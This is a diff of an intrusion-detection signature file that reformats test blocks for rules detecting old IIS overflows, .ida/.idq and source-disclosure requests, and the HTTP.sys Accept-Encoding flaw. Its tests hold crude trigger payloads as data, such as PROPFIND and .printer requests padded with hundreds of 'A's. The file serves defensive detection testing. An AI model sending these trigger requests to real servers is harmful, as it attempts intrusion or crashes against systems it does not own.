 test "near miss: a template" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/${lower}case HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/${lower}case HTTP/1.1\r\n" }
   expect none
 }
 
@@ -1078,14 +1151,22 @@ signature iis_propfind_overflow {
   then     log, drop
 }
 test "a name that is too long" {
-  packet { ipv4 tcp { dst_port 80 } payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/aaaaaaa" + "A" * 900 }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/aaaaaaa" + "A" * 900
+  }
   expect iis_propfind_overflow, verdict drop
 }
 test "near miss: an honest lock, a long cookie, another method, mail" {
-  packet { ipv4 tcp { dst_port 80 } payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a> (Not <DAV:no-lock>)\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nCookie: " + "A" * 900 }
-  packet { ipv4 tcp { dst_port 80 } payload "PROPPATCH / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a" + "A" * 900 }
-  packet { ipv4 tcp { dst_port 25 } payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a" + "A" * 900 }
+  packet {
+    ipv4
+    tcp { dst_port 80 }
+    payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a> (Not <DAV:no-lock>)\r\n"
+  }
+  packet { ipv4  tcp { dst_port 80 }  payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nCookie: " + "A" * 900 }
+  packet { ipv4  tcp { dst_port 80 }  payload "PROPPATCH / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a" + "A" * 900 }
+  packet { ipv4  tcp { dst_port 25 }  payload "PROPFIND / HTTP/1.1\r\nHost: x\r\nIf: <http://localhost/a" + "A" * 900 }
   expect none
 }
 
@@ -1101,12 +1182,12 @@ signature iis_printer_overflow {
   then     log, drop
 }
 test "a name that is too long" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /NULL.printer HTTP/1.0\r\nHost: " + "A" * 420 }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /NULL.printer HTTP/1.0\r\nHost: " + "A" * 420 }
   expect iis_printer_overflow, verdict drop
 }
 test "near miss: a short request, and another page" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /NULL.printer HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /printer.html HTTP/1.0\r\nCookie: " + "A" * 420 }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /NULL.printer HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /printer.html HTTP/1.0\r\nCookie: " + "A" * 420 }
   expect none
 }
 
@@ -1119,18 +1200,19 @@ signature iis_indexing {
   ref      cve "CVE-2001-0500"
   ref      cert "CA-2001-13"
   when     request
-       and (payload contains ".ida?" nocase in uri_first..uri_last or payload contains ".idq?" nocase in uri_first..uri_last)
+       and (payload contains ".ida?" nocase in uri_first..uri_last
+         or payload contains ".idq?" nocase in uri_first..uri_last)
        and payload.length > 240
   then     log, drop
 }
 test "two extensions" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /x.ida?" + "A" * 260 }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /x.idq?" + "A" * 260 }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /x.ida?" + "A" * 260 }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /x.idq?" + "A" * 260 }
   expect iis_indexing * 2, verdict drop
 }
 test "near miss: a short query, and another page" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /default.ida?query=word HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /default.htm?" + "A" * 260 }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.ida?query=word HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.htm?" + "A" * 260 }
   expect none
 }
 
@@ -1149,13 +1231,13 @@ signature iis_source {
   then     log, drop
 }
 test "two ways" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /default.asp::$DATA HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /global.asa+.htr HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.asp::$DATA HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /global.asa+.htr HTTP/1.1\r\n" }
   expect iis_source * 2, verdict drop
 }
 test "near miss: other pages" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET /docs/$data HTTP/1.1\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET /default.asp HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/$data HTTP/1.1\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.asp HTTP/1.1\r\n" }
   expect none
 }
 
@@ -1175,11 +1257,11 @@ signature http_sys_trailer {
   then     log, drop
 }
 test "as published" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nAccept-Encoding: doar-e, ftw, imo, ,\r\n" }
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nAccept-Encoding: AAAAAAAAAAAAAAAAAAAAAAAA,BBBB\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nAccept-Encoding: doar-e, ftw, imo, ,\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nAccept-Encoding: AAAAAAAAAAAAAAAAAAAAAAAA,BBBB\r\n" }
   expect http_sys_trailer * 2, verdict drop
 }
 test "near miss: an honest list" {
-  packet { ipv4 tcp { dst_port 80 } payload "GET / HTTP/1.1\r\nAccept-Encoding: gzip, deflate, br\r\n" }
+  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nAccept-Encoding: gzip, deflate, br\r\n" }
   expect none
 }
